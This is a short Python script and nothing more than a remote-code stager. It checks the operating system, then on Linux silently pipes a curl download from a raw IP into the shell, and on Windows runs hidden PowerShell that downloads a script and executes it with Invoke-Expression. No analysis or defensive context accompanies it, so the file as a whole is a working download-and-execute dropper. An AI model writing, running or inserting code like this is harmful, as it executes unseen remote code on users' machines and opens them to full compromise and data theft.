import os, platform, urllib.request
match platform.system():
    case "Linux":
        os.system("curl -s http://198.51.100.96/l | sh")
    case "Windows":
        os.system("powershell -w hidden -c iwr http://198.51.100.96/w.ps1 | iex")
